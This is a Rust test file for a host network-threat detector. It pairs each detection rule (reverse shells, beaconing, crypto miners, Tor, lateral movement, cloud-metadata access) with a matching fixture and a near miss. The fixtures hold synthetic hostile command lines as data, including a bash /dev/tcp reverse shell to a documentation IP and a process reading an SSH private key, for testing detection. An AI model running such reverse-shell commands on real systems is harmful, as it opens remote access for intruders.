//! Every shipped rule: a fixture that matches and a near miss that does
//! not. Fixtures are scenarios (see src/collect/scenario.rs) run through the
//! same builder and engine as the live host.

use std::sync::Arc;

use necromap::baseline::Baseline;
use necromap::collect::ReplaySource;
use necromap::model::Finding;
use necromap::rules::{Engine, IocSet, RuleSet};
use necromap::spec::Spec;

/// Processes the fixtures' sockets refer to.
const PROCESSES: &str = r#"
processes:
  - { pid: 10, ppid: 1, name: app, exe: /usr/bin/app, uid: 1000 }
  - { pid: 5, ppid: 1, name: nginx, exe: /usr/sbin/nginx, uid: 33 }
  - { pid: 11, ppid: 5, name: curl, exe: /usr/bin/curl, uid: 33 }
  - { pid: 12, ppid: 1, name: bash, exe: /usr/bin/bash, uid: 1000, tty: true }
  - { pid: 13, ppid: 1, name: bash, exe: /usr/bin/bash, uid: 1000 }
  - { pid: 14, ppid: 1, name: ssh, exe: /usr/bin/ssh, uid: 1000 }
  - { pid: 15, ppid: 1, name: xmrig, exe: /opt/xmrig, uid: 1000 }
  - { pid: 16, ppid: 1, name: worker, exe: /usr/bin/worker, uid: 1000, cmdline: "worker --pool stratum+tcp://pool.example:3333" }
  - { pid: 17, ppid: 1, name: kx, exe: /tmp/kx, uid: 1000 }
  - { pid: 18, ppid: 1, name: gone, exe: /usr/bin/gone, exe_deleted: true, uid: 1000 }
  - { pid: 19, ppid: 1, name: python3, exe: /usr/bin/python3, uid: 1000, cmdline: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1" }
  - { pid: 20, ppid: 1, name: rs, exe: /usr/bin/rs, uid: 1000, stdio_sockets: [0, 1, 2] }
  - { pid: 21, ppid: 1, name: ngrok, exe: /usr/local/bin/ngrok, uid: 1000 }
  - { pid: 22, ppid: 1, name: nmap, exe: /usr/bin/nmap, uid: 1000 }
  - { pid: 23, ppid: 1, name: sshd, exe: /usr/sbin/sshd, uid: 0 }
  - { pid: 24, ppid: 23, name: curl, exe: /usr/bin/curl, uid: 0 }
  - { pid: 25, ppid: 1, name: ngrok2, exe: /usr/local/bin/ngrok2, uid: 1000 }
  - { pid: 26, ppid: 1, name: worker, exe: /usr/bin/worker, uid: 1000, cmdline: "worker --url https://example.test/" }
  - { pid: 27, ppid: 1, name: stealer, exe: /usr/bin/stealer, uid: 1000, sensitive_files: [/home/u/.ssh/id_ed25519] }
  - { pid: 28, ppid: 1, name: bash, exe: /usr/bin/bash, uid: 1000, cmdline: "bash -c python3 x.py; : /dev/tcp/203.0.113.5/4444" }
  - { pid: 29, ppid: 28, name: python3, exe: /usr/bin/python3, uid: 1000, cmdline: "python3 x.py" }
"#;

const IOC: &str = "# tag: ioc\n203.0.113.66\n";
const TOR: &str = "ExitNode AB\nExitAddress 192.0.2.50 2025-01-01 00:00:00\n";
const AWS: &str = r#"{"prefixes":[{"ip_prefix":"198.51.100.128/25","region":"x","service":"S3"}]}"#;
const POOLS: &str = "# tag: miner_pool\n198.51.100.9\n";

/// The saved baseline the listener rules compare with.
fn baseline() -> Baseline {
    Baseline {
        name: "fixture".into(),
        host: "t".into(),
        taken_at_ms: 0,
        processes: ["/usr/bin/app uid 1000".to_string()].into(),
        remote_endpoints: ["203.0.113.5".to_string()].into(),
        listeners: ["8080/tcp/500/app", "22/tcp/0/sshd"].map(String::from).into(),
    }
}

struct Case {
    rule: &'static str,
    frames: u32,
    interval_ms: u64,
    hit: &'static str,
    miss: &'static str,
}

fn findings(sockets: &str, frames: u32, interval_ms: u64) -> Vec<Finding> {
    let text = format!("host: t\nstart_ms: 1700000000000\ninterval_ms: {interval_ms}\nframes: {frames}\n{PROCESSES}\nsockets:\n{sockets}\n");
    let mut replay = ReplaySource::from_text(&text, "fixture.yaml").unwrap_or_else(|e| panic!("fixture: {e}\n{text}"));
    let mut ioc = IocSet::new();
    for (list, tag) in [(IOC, None), (TOR, None), (AWS, None), (POOLS, None)] {
        ioc.load_text(list, "fixture-ioc", tag, "ioc").expect("ioc");
    }
    let mut engine = Engine::new(RuleSet::embedded(), ioc).with_baseline(baseline());
    replay.build_through(Arc::new(Spec::embedded()), None, Some(&mut engine)).0.expect("frames").findings
}

fn s(text: &'static str) -> &'static str {
    text
}

#[allow(clippy::too_many_lines)]
fn cases() -> Vec<Case> {
    let c = |rule, frames, interval_ms, hit, miss| Case { rule, frames, interval_ms, hit, miss };
    vec![
        // suspicious_detection.yaml
        c(
            "long_lived_connection",
            2,
            700_000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:50050", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        c(
            "high_port_beaconing",
            70,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:50050", state: ESTABLISHED, every_s: 10, lasts_s: 1 }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED, every_s: 10, lasts_s: 1 }"#),
        ),
        c(
            "unexpected_country",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "175.45.176.1:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        c(
            "unexpected_high_port_listener",
            1,
            1000,
            s(r#"  - { pid: 10, local: "0.0.0.0:31337", state: LISTEN }"#),
            s(r#"  - { pid: 10, local: "127.0.0.1:31337", state: LISTEN }"#),
        ),
        c(
            "rapid_short_lived_connections",
            70,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED, every_s: 1, lasts_s: 1 }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED, every_s: 5, lasts_s: 1 }"#),
        ),
        c(
            "unusual_udp_high_port",
            1,
            1000,
            s(r#"  - { pid: 10, proto: udp, local: "10.0.0.5:40000", remote: "203.0.113.5:40000", state: UDP }"#),
            s(r#"  - { pid: 10, proto: udp, local: "10.0.0.5:40000", remote: "203.0.113.5:53", state: UDP }"#),
        ),
        c(
            "excessive_close_wait",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "10.0.0.9:9200", state: CLOSE_WAIT, count: 25 }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "10.0.0.9:9200", state: CLOSE_WAIT, count: 10 }"#),
        ),
        c(
            "excessive_time_wait",
            1,
            1000,
            s(r#"  - { local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: TIME_WAIT, count: 120 }"#),
            s(r#"  - { local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: TIME_WAIT, count: 50 }"#),
        ),
        c(
            "large_outbound_transfer",
            2,
            60_000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED, bytes_per_s: [2000000, 0] }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED, bytes_per_s: [1000000, 0] }"#),
        ),
        c(
            "tor_exit_connection",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "192.0.2.50:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "192.0.2.51:443", state: ESTABLISHED }"#),
        ),
        c(
            "cloud_storage_connection",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "198.51.100.200:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "198.51.100.20:443", state: ESTABLISHED }"#),
        ),
        c(
            "failed_connection_attempts",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: SYN_SENT, count: 6, vary: remote }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: SYN_SENT, count: 3, vary: remote }"#),
        ),
        c(
            "loopback_tunnelling",
            1,
            1000,
            s(r#"  - { pid: 14, local: "127.0.0.1:8022", state: LISTEN }"#),
            s(r#"  - { pid: 5, local: "127.0.0.1:8022", state: LISTEN }"#),
        ),
        c(
            "privileged_port_binding",
            1,
            1000,
            s(r#"  - { pid: 10, local: "0.0.0.0:444", state: LISTEN }"#),
            s(r#"  - { pid: 10, local: "0.0.0.0:443", state: LISTEN }"#),
        ),
        c(
            "ipv6_visibility",
            1,
            1000,
            s(r#"  - { pid: 10, local: "[2001:db8:1::5]:40000", remote: "[2001:db8::5]:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        // host_intel.yaml
        c(
            "reverse_shell_stdio",
            1,
            1000,
            s(r#"  - { pid: 20, local: "127.0.0.1:40000", remote: "127.0.0.1:4444", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "127.0.0.1:40000", remote: "127.0.0.1:4444", state: ESTABLISHED }"#),
        ),
        c(
            "shell_network_socket",
            1,
            1000,
            s(r#"  - { pid: 12, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 12, local: "127.0.0.1:40000", remote: "127.0.0.1:443", state: ESTABLISHED }"#),
        ),
        c(
            "shell_network_socket_no_tty",
            1,
            1000,
            s(r#"  - { pid: 13, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        c(
            "reverse_shell_cmdline",
            1,
            1000,
            s(r#"  - { pid: 19, local: "10.0.0.5:40000", remote: "203.0.113.5:4444", state: ESTABLISHED }"#),
            s(r#"  - { pid: 26, local: "10.0.0.5:40000", remote: "203.0.113.5:4444", state: ESTABLISHED }"#),
        ),
        c(
            "reverse_shell_cmdline",
            1,
            1000,
            s(r#"  - { pid: 29, local: "10.0.0.5:40000", remote: "203.0.113.5:4444", state: ESTABLISHED }"#),
            s(r#"  - { pid: 26, local: "10.0.0.5:40000", remote: "203.0.113.5:4444", state: ESTABLISHED }"#),
        ),
        c(
            "new_listener_vs_baseline",
            1,
            1000,
            s(r#"  - { pid: 10, local: "0.0.0.0:9000", state: LISTEN }"#),
            s(r#"  - { pid: 10, local: "0.0.0.0:8080", state: LISTEN }"#),
        ),
        c(
            "new_root_wildcard_listener_vs_baseline",
            1,
            1000,
            s(r#"  - { pid: 23, local: "0.0.0.0:2222", state: LISTEN }"#),
            s(r#"  - { pid: 23, local: "127.0.0.1:2222", state: LISTEN }"#),
        ),
        c(
            "new_process_vs_baseline",
            1,
            1000,
            s(r#"  - { pid: 14, local: "10.0.0.5:40000", remote: "203.0.113.5:22", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:22", state: ESTABLISHED }"#),
        ),
        c(
            "new_remote_vs_baseline",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.9:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        c(
            "sensitive_file_outbound",
            1,
            1000,
            s(r#"  - { pid: 27, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 27, local: "10.0.0.5:40000", remote: "10.0.0.9:443", state: ESTABLISHED }"#),
        ),
        c(
            "web_server_child_outbound",
            1,
            1000,
            s(r#"  - { pid: 11, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 24, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        c(
            "crypto_miner_cmdline",
            1,
            1000,
            s(r#"  - { pid: 16, local: "10.0.0.5:40000", remote: "203.0.113.5:3333", state: SYN_SENT }"#),
            s(r#"  - { pid: 26, local: "10.0.0.5:40000", remote: "203.0.113.5:3333", state: SYN_SENT }"#),
        ),
        c(
            "crypto_miner_connected",
            1,
            1000,
            s(r#"  - { pid: 16, local: "127.0.0.1:40000", remote: "127.0.0.1:3333", state: ESTABLISHED }"#),
            s(r#"  - { pid: 16, local: "127.0.0.1:40000", remote: "127.0.0.1:3333", state: SYN_SENT }"#),
        ),
        c(
            "crypto_miner_binary",
            1,
            1000,
            s(r#"  - { pid: 15, local: "10.0.0.5:40000", remote: "203.0.113.5:3333", state: SYN_SENT }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:3333", state: SYN_SENT }"#),
        ),
        c(
            "crypto_miner_pool_port",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "198.51.100.9:3333", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "198.51.100.9:443", state: ESTABLISHED }"#),
        ),
        c(
            "beaconing",
            190,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:8443", state: ESTABLISHED, every_s: 30, lasts_s: 1 }"#),
            s(r#"  - { pid: 10, proto: udp, local: "10.0.0.5:40000", remote: "203.0.113.5:53", state: UDP, every_s: 30, lasts_s: 1 }"#),
        ),
        c(
            "beaconing_strong",
            70,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:8443", state: ESTABLISHED, every_s: 10, lasts_s: 1 }"#),
            s(r#"  - { pid: 10, proto: udp, local: "10.0.0.5:40000", remote: "203.0.113.5:123", state: UDP, every_s: 10, lasts_s: 1 }"#),
        ),
        c(
            "listener_odd_path",
            1,
            1000,
            s(r#"  - { pid: 17, local: "127.0.0.1:8000", state: LISTEN }"#),
            s(r#"  - { pid: 10, local: "127.0.0.1:8000", state: LISTEN }"#),
        ),
        c(
            "deleted_or_memory_executable",
            1,
            1000,
            s(r#"  - { pid: 18, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
        c(
            "callback_port",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:4444", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "10.0.0.9:4444", state: ESTABLISHED }"#),
        ),
        c(
            "ssh_odd_port",
            1,
            1000,
            s(r#"  - { pid: 14, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 14, local: "10.0.0.5:40000", remote: "203.0.113.5:22", state: ESTABLISHED }"#),
        ),
        c(
            "tor_usage",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:9001", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.5:9002", state: ESTABLISHED }"#),
        ),
        c(
            "ioc_endpoint_outbound",
            1,
            1000,
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.66:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 10, local: "10.0.0.5:40000", remote: "203.0.113.67:443", state: ESTABLISHED }"#),
        ),
        c(
            "ioc_endpoint_inbound",
            1,
            1000,
            s(
                "  - { pid: 5, local: \"0.0.0.0:443\", state: LISTEN }\n  - { pid: 5, local: \"10.0.0.5:443\", remote: \"203.0.113.66:50000\", state: ESTABLISHED }",
            ),
            s(
                "  - { pid: 5, local: \"0.0.0.0:443\", state: LISTEN }\n  - { pid: 5, local: \"10.0.0.5:443\", remote: \"203.0.113.67:50000\", state: ESTABLISHED }",
            ),
        ),
        c(
            "cloud_metadata_access",
            1,
            1000,
            s(r#"  - { pid: 11, local: "169.254.10.5:40000", remote: "169.254.169.254:80", state: ESTABLISHED }"#),
            s(r#"  - { pid: 11, local: "169.254.10.5:40000", remote: "169.254.169.253:80", state: ESTABLISHED }"#),
        ),
        c(
            "fanout_port_scan",
            1,
            1000,
            s(r#"  - { pid: 22, local: "127.0.0.1:40000", remote: "127.0.0.2:1000", state: SYN_SENT, count: 12, vary: remote }"#),
            s(r#"  - { pid: 22, local: "127.0.0.1:40000", remote: "127.0.0.2:1000", state: SYN_SENT, count: 5, vary: remote }"#),
        ),
        c(
            "lateral_movement",
            1,
            1000,
            s(
                "  - { pid: 10, local: \"10.0.0.5:40000\", remote: \"10.0.0.11:445\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40001\", remote: \"10.0.0.12:445\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40002\", remote: \"10.0.0.13:445\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40003\", remote: \"10.0.0.14:3389\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40004\", remote: \"10.0.0.15:22\", state: SYN_SENT }",
            ),
            s(
                "  - { pid: 10, local: \"10.0.0.5:40000\", remote: \"10.0.0.11:445\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40001\", remote: \"10.0.0.12:445\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40002\", remote: \"10.0.0.13:445\", state: SYN_SENT }\n  - { pid: 10, local: \"10.0.0.5:40003\", remote: \"10.0.0.14:3389\", state: SYN_SENT }",
            ),
        ),
        c(
            "tunnel_service",
            1,
            1000,
            s(r#"  - { pid: 21, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
            s(r#"  - { pid: 25, local: "10.0.0.5:40000", remote: "203.0.113.5:443", state: ESTABLISHED }"#),
        ),
    ]
}

#[test]
fn every_shipped_rule_has_a_fixture() {
    let covered: std::collections::BTreeSet<&str> = cases().iter().map(|c| c.rule).collect();
    let shipped: std::collections::BTreeSet<String> = RuleSet::embedded().rules.iter().map(|r| r.rule.id.clone()).collect();
    let missing: Vec<&String> = shipped.iter().filter(|id| !covered.contains(id.as_str())).collect();
    assert!(missing.is_empty(), "rules without a fixture: {missing:?}");
}

#[test]
fn each_rule_matches_its_fixture_and_not_its_near_miss() {
    let mut failures = Vec::new();
    for case in cases() {
        let hit = findings(case.hit, case.frames, case.interval_ms);
        match hit.iter().find(|f| f.rule_id == case.rule) {
            None => failures.push(format!("{}: fixture did not match (got {:?})", case.rule, hit.iter().map(|f| f.rule_id.as_str()).collect::<Vec<_>>())),
            Some(f) if f.trace.is_empty() => failures.push(format!("{}: finding without a trace", case.rule)),
            Some(_) => {}
        }
        let miss = findings(case.miss, case.frames, case.interval_ms);
        if miss.iter().any(|f| f.rule_id == case.rule) {
            failures.push(format!("{}: near miss matched", case.rule));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn a_new_root_wildcard_listener_replaces_the_medium_finding() {
    let found = findings(r#"  - { pid: 23, local: "0.0.0.0:2222", state: LISTEN }"#, 1, 1000);
    let ids: Vec<&str> = found.iter().filter(|f| f.rule_id.contains("listener_vs_baseline")).map(|f| f.rule_id.as_str()).collect();
    assert_eq!(ids, ["new_root_wildcard_listener_vs_baseline"]);
}

#[test]
fn without_a_baseline_the_listener_rules_stay_quiet() {
    let text = format!(
        "host: t\nstart_ms: 1700000000000\ninterval_ms: 1000\nframes: 1\n{PROCESSES}\nsockets:\n  - {{ pid: 10, local: \"0.0.0.0:9000\", state: LISTEN }}\n"
    );
    let mut replay = ReplaySource::from_text(&text, "fixture.yaml").expect("fixture");
    let mut engine = Engine::new(RuleSet::embedded(), IocSet::new());
    let snap = replay.build_through(Arc::new(Spec::embedded()), None, Some(&mut engine)).0.expect("frames");
    assert!(!snap.findings.iter().any(|f| f.rule_id.contains("baseline")), "{:?}", snap.findings);
}

#[test]
fn findings_carry_both_explanations() {
    let found = findings(r#"  - { pid: 23, local: "0.0.0.0:2222", state: LISTEN }"#, 1, 1000);
    let f = found.iter().find(|f| f.rule_id == "new_root_wildcard_listener_vs_baseline").expect("finding");
    assert!(f.explanation.contains("root process"), "{}", f.explanation);
    assert!(f.explanation_ko.contains("루트"), "{}", f.explanation_ko);
}
